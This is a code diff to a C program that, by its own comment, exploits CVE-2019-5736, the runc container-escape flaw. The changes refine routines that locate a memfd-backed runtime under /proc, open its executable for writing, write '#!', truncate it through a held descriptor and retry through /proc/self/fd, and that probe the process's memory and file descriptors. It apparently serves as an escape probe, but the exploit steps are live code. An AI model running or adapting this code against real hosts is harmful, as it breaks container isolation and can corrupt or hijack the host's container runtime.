@@ -56,13 +56,14 @@ static int key(const char* name) {
 }
 
 // CVE-2019-5736: for writing at once, and through a descriptor that outlives the process.
-static void overwrite(const char* path, const char* label) {
+static int overwrite(const char* path, const char* label) {
   char again[64];
   int direct = open(path, O_WRONLY);
+  if (direct < 0 && errno == ENOENT) return 0;
   printf("%s open %s\n", label, direct < 0 ? name_of(errno) : "done");
   if (direct >= 0) printf("%s write %s\n", label, write(direct, "#!", 2) < 0 ? name_of(errno) : "done");
   int held = open(path, O_RDONLY);
-  if (held < 0) return;
+  if (held < 0) return 0;
   printf("%s truncate %s\n", label, name_of(truncate(path, 0) ? errno : 0));
   snprintf(again, sizeof again, "/proc/self/fd/%d", held);
   for (double end = now() + 0.5; now() < end;) {
@@ -74,6 +75,7 @@ static void overwrite(const char* path, const char* label) {
     break;
   }
   close(held);
+  return 1;
 }
 
 static int exchange(const char* one, const char* other, double seconds) {
@@ -118,7 +120,7 @@ static void look(const char* pid) {
   if (readlink(path, link, sizeof link - 1) < 0 || strncmp(link, "/memfd:", 7) != 0) return;
   say("exe", "is the runtime");
   static int tried;
-  if (tried++ < 3) overwrite(path, "exe");
+  if (tried < 3) tried += overwrite(path, "exe");
   snprintf(path, sizeof path, "/proc/%s/root", pid);
   judge(path, "root");
   snprintf(path, sizeof path, "/proc/%s/cwd", pid);
@@ -148,9 +150,9 @@ static void attach(const char* pid) {
   if (fd >= 0 && is_runtime(pid)) say("mem", "opened");
   if (fd >= 0) close(fd);
   for (int number = 0; number < 24; number++) {
-    struct stat s;
+    char link[256];
     snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, number);
-    if (lstat(path, &s) == 0 && is_runtime(pid)) say("descriptor", "seen");
+    if (readlink(path, link, sizeof link) >= 0 && is_runtime(pid)) say("descriptor", "read");
   }
 }
 
